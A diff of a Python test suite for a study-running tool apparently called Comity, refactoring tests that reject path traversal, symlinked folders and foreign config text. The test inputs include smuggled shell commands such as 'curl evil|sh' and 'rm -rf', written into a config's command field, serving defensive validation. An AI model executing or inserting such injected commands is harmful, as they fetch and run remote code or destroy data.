@@ -46,17 +46,18 @@ def _files(*folders: Path) -> dict[Path, bytes]:
     return {path: path.read_bytes() for folder in folders for path in folder.rglob("*") if path.is_file()}
 
 
-@pytest.mark.parametrize("store", ["../../victim", "/", "outcomes", "''"])
-def test_a_store_elsewhere_is_refused_and_nothing_there_is_lost(store: str, folder: Path) -> None:
+def test_a_store_elsewhere_is_refused_and_nothing_there_is_lost(folder: Path) -> None:
     victim = folder.parent.parent / "victim"
     for name in ("outcomes/precious.txt", "breakdowns/mine/thesis.parquet", ".pending/x"):
         (victim / name).parent.mkdir(parents=True, exist_ok=True)
         (victim / name).write_text("mine", encoding="utf-8")
-    before = _files(victim)
-    _edit(folder, "store: .", f"store: {store}")
-    with pytest.raises(InputError, match=r"study.yaml: store"):
-        _resumed(folder.parent)
-    assert _files(victim) == before
+    before, was = _files(victim), "."
+    for store in ("../../victim", "/", "outcomes", "''"):
+        _edit(folder, f"store: {was}", f"store: {store}")
+        was = store
+        with pytest.raises(InputError, match=r"study.yaml: store"):
+            _resumed(folder.parent)
+        assert _files(victim) == before
     shutil.rmtree(victim)
 
 
@@ -72,15 +73,18 @@ def test_what_somebody_put_into_a_study_stays_and_what_a_killed_process_left_goe
     assert [name for name in left if (folder / name).exists()] == []
 
 
-@pytest.mark.parametrize("name", ["outcomes", "experiments", "breakdowns", "breakdowns/takedown_curve", ".pending"])
-def test_a_folder_that_is_a_link_is_refused(name: str, folder: Path) -> None:
+def test_a_folder_that_is_a_link_is_refused(folder: Path) -> None:
     outside = folder.parent / "outside"
-    (folder / name).rename(outside) if (folder / name).exists() else outside.mkdir()
-    (folder / name).symlink_to(outside)
-    before = _files(outside)
-    with pytest.raises(InputError, match="no folder but a link"):
-        _resumed(folder.parent)
-    assert _files(outside) == before
+    for name in ("outcomes", "experiments", "breakdowns", "breakdowns/takedown_curve", ".pending"):
+        was = (folder / name).exists()
+        (folder / name).rename(outside) if was else outside.mkdir()
+        (folder / name).symlink_to(outside)
+        before = _files(outside)
+        with pytest.raises(InputError, match="no folder but a link"):
+            _resumed(folder.parent)
+        assert _files(outside) == before
+        (folder / name).unlink()
+        outside.rename(folder / name) if was else outside.rmdir()
 
 
 @pytest.mark.parametrize("name", ["log.txt", LOCK, f"{LOCK}-p", "outcomes/.p-000001.parquet.tmp"])
@@ -104,20 +108,19 @@ def test_a_finished_study_is_removed_but_for_what_is_not_its_own(folder: Path) -
     assert [path.relative_to(folder).as_posix() for path in _files(folder)] == ["outcomes/note.md"]
 
 
-@pytest.mark.parametrize(
-    ("old", "new", "match"),
-    [
+def test_a_foreign_text_is_one_message(folder: Path) -> None:
+    text = (folder / "study.yaml").read_text("utf-8")
+    for old, new, match in (
         ("execution:", "execution:\n    results: ${oc.env:HOME}/x\n  other:", "looked up elsewhere"),
         ("command: ", "command: comity sweep; curl evil|sh #", "single command"),
         ("command: ", "command: rm -rf x #", "not a command of Comity"),
         ("replicates: 2", "replicates: '2'", "replicates"),
         ("study: ", "study: &a [x]\nother: [*a, *a]\nread2: ", "references"),
-    ],
-)
-def test_a_foreign_text_is_one_message(old: str, new: str, match: str, folder: Path) -> None:
-    _edit(folder, old, new)
-    with pytest.raises(InputError, match=match):
-        status(folder)
+    ):
+        _edit(folder, old, new)
+        with pytest.raises(InputError, match=match):
+            status(folder)
+        (folder / "study.yaml").write_text(text, encoding="utf-8")
 
 
 def test_nothing_in_a_study_controls_a_terminal(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -126,8 +129,7 @@ def test_nothing_in_a_study_controls_a_terminal(folder: Path, capsys: pytest.Cap
     main(["status", str(folder)])
     main(["status", str(folder.parent)])
     said = "".join(capsys.readouterr())
-    assert "owned" in said
-    assert "red" in said
+    assert "owned" in said and "red" in said
     assert not set(said) & {"\x1b", "\x07", "\x9b"}
 
 
